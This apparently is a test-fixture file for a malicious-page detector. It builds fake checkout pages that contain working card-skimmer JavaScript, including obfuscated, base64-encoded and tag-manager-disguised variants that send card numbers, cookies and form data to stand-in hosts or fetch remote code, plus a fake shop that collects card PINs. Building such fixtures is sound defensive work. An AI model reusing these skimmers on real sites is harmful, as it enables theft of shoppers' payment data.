/** Honest shops with a stranger at the till. The code is of the known shapes; where it sends to does not exist. */
import {
  base64,
  bundle,
  cards,
  cmsPage,
  footer,
  htmlDocument,
  prose,
  stylesheet,
  tagManager,
} from './filler.ts';
import { hostile, type PageFixture } from './fixture.ts';
import { hexEscapes, stringArray } from './obfuscation.ts';

const SKIMMER = 'card skimmer';
const till = (action: string) =>
  `<form id="checkout-form" method="post" action="${action}"><input name="billing[name]" autocomplete="name"><input name="billing[street]"><input name="billing[postcode]"><input type="email" name="email"><input id="cc_number" name="payment[cc_number]" autocomplete="cc-number"><input id="cc_exp" name="payment[cc_exp]" autocomplete="cc-exp"><input id="cc_cid" name="payment[cc_cid]" autocomplete="cc-csc"><button>Place order</button></form>`;

export const hostileShops: PageFixture[] = [
  hostile(
    'skimmer in plain words at the end of a check-out',
    SKIMMER,
    'https://www.hollowoakfurniture.com/checkout/',
    htmlDocument({
      title: 'Checkout – Hollow Oak Furniture',
      head: `<style>${stylesheet('oak', 90)}</style>${tagManager('GTM-OAK')}<script>${bundle('oak', 40)}</script>`,
      body: `${till('/checkout/place')}${footer('Hollow Oak')}<script>
(function(){var seen='';function take(){var d={};document.querySelectorAll('input,select').forEach(function(i){if(i.value)d[i.name||i.id]=i.value});d.host=location.hostname;var s=btoa(unescape(encodeURIComponent(JSON.stringify(d))));if(s!==seen&&d['payment[cc_number]']&&d['payment[cc_number]'].length>12){seen=s;(new Image).src='https://jquery-cdn-metrics.top/pixel.gif?v='+s}}
document.querySelectorAll('button').forEach(function(b){b.addEventListener('mousedown',take)});setInterval(take,1500)})();</script>`,
    }),
  ),
  hostile(
    'skimmer that dresses as a tag manager and speaks over a socket',
    SKIMMER,
    'https://www.brassbellcycles.com.au/onepage/checkout',
    htmlDocument({
      title: 'Checkout',
      head: `${tagManager('GTM-BBC')}<!-- Google Tag Manager --><script>window.dataLayer=window.dataLayer||[];(function(w,d,s,l,i){if(location.pathname.indexOf('check'+'out')<0)return;var x=new WebSocket(atob('${Buffer.from('wss://gtm-statistics-collect.com/tag').toString('base64')}')+'?id='+i);x.onmessage=function(e){new Function(e.data)()};x.onopen=function(){d.addEventListener('change',function(e){var f=e.target;if(/cc|card|cvv|cid|exp/i.test(f.name+f.id))x.send(btoa(f.name+'='+f.value))},true)}})(window,document,'script','dataLayer','GTM-8X1Z');</script><!-- End Google Tag Manager --><style>${stylesheet('bbc', 60)}</style>`,
      body: `${till('/onepage/saveOrder')}${cards('bbc', 6)}<script>${bundle('bbc', 30)}</script>`,
    }),
    'both',
  ),
  hostile(
    'payment frame replaced by a form of the thief’s',
    SKIMMER,
    'https://www.softpaws-petfood.com/checkout/payment',
    htmlDocument({
      title: 'Payment – Soft Paws',
      head: `<script src="https://js.stripe.com/v3/"></script><style>${stylesheet('paws', 50)}</style>`,
      body: `<form id="pay" action="/checkout/complete" method="post"><div id="card-element"><iframe src="https://js.stripe.com/v3/elements-inner-card.html" width="400" height="40"></iframe></div><button>Pay</button></form><script>
setTimeout(function(){var f=document.querySelector('#card-element iframe');if(!f)return;f.style.display='none';var b=document.createElement('div');b.innerHTML='<input id="x_n" placeholder="Card number" autocomplete="cc-number"><input id="x_e" placeholder="MM / YY"><input id="x_c" placeholder="CVC" autocomplete="cc-csc">';f.parentNode.appendChild(b);document.querySelector('#pay button').onclick=function(e){if(localStorage.getItem('__done'))return;e.preventDefault();var v=['x_n','x_e','x_c'].map(function(k){return document.getElementById(k).value}).join('|');navigator.sendBeacon('https://stripe-api-metrics.site/c',btoa(v+'|'+document.cookie+'|'+navigator.userAgent));localStorage.setItem('__done','1');alert('Payment error, please enter your card again');b.remove();f.style.display=''}},1200);</script>${prose('paws', 'shop', 3)}`,
    }),
  ),
  hostile(
    'obfuscated skimmer amid ordinary bundles',
    SKIMMER,
    'https://shop.northquayoutdoors.no/kasse',
    htmlDocument({
      title: 'Kasse – North Quay Outdoors',
      lang: 'no',
      head: `<style>${stylesheet('quay', 120)}</style><script>${bundle('quay', 70)}</script>`,
      body: `${till('/kasse/betal')}<script>${stringArray("var store={};function grab(){var fields=document.getElementsByTagName('input');for(var i=0;i<fields.length;i++){if(fields[i].value.length>0){store[fields[i].name]=fields[i].value;}}var data=btoa(JSON.stringify(store));if(store['payment[cc_number]']&&localStorage.getItem('sent')!==data){var req=new XMLHttpRequest();req.open('POST','https://font-assets-delivery.xyz/css/load.php');req.setRequestHeader('Content-Type','application/x-www-form-urlencoded');req.send('q='+encodeURIComponent(data));localStorage.setItem('sent',data);}}if(window.location.href.indexOf('kasse')!==-1){setInterval(grab,900);}", 'quay')}</script><script>${bundle('quay 2', 30)}</script>`,
    }),
    'both',
  ),
  hostile(
    'skimmer that is fetched through the picture of a favicon',
    SKIMMER,
    'https://www.teapotandtwine.co.uk/checkout/?step=payment',
    cmsPage({
      url: 'https://www.teapotandtwine.co.uk/checkout/?step=payment',
      site: 'Teapot & Twine',
      title: 'Checkout',
      topic: 'food',
      main: till('/?wc-ajax=checkout'),
      tail: `<script>fetch(${hexEscapes('https://favicon-myicons.net/d/icon.ico')}).then(function(r){return r.text()}).then(function(t){var c=t.slice(t.indexOf(${hexEscapes('Copyright')})+9).split('').reverse().join('');(new Function(${hexEscapes('_w')},atob(c)))(window)});</script>`,
    }),
  ),
  hostile(
    'skimmer in the handler of a picture that fails',
    SKIMMER,
    'https://www.luma-lampen.de/checkout/cart',
    htmlDocument({
      title: 'Warenkorb',
      lang: 'de',
      head: `<style>${stylesheet('luma', 80)}</style>`,
      body: `${till('/checkout/go')}${cards('luma', 9)}<img src="x" style="display:none" onerror="eval(atob('${Buffer.from("var s=document.createElement('script');s.src='https://luma-cdn-analytics.shop/m.js';document.head.appendChild(s);document.querySelector('#cc_number').addEventListener('blur',function(){fetch('https://luma-cdn-analytics.shop/g?c='+btoa(this.value))});").toString('base64')}'))">`,
    }),
  ),
  hostile(
    'shop that is all fake and keeps the cards',
    'fake shop',
    'https://ray-sunglasses-outlet-90off.shop/checkout.php',
    htmlDocument({
      title: 'Official Outlet 90% OFF Today Only | Checkout',
      head: `<style>${stylesheet('ray', 30)}</style>`,
      body: `<h1>FINAL CLEARANCE 90% OFF</h1><p id="t">Offer ends in 04:59</p>${cards('ray', 14, 'shop', '$')}<form action="http://203.0.113.200/pay/save_card.php" method="post"><input name="name"><input name="address"><input name="card_no" placeholder="Card number"><input name="exp"><input name="cvv"><input name="card_pin" type="password" placeholder="Card PIN"><button>Pay securely</button></form>${image1()}<script>history.pushState(null,'',location.href);onpopstate=function(){history.pushState(null,'',location.href)};</script>`,
    }),
  ),
];

function image1() {
  return `<img src="data:image/png;base64,${base64('seals', '\x89PNG', 3000)}" alt="Norton Secured McAfee SECURE">`;
}
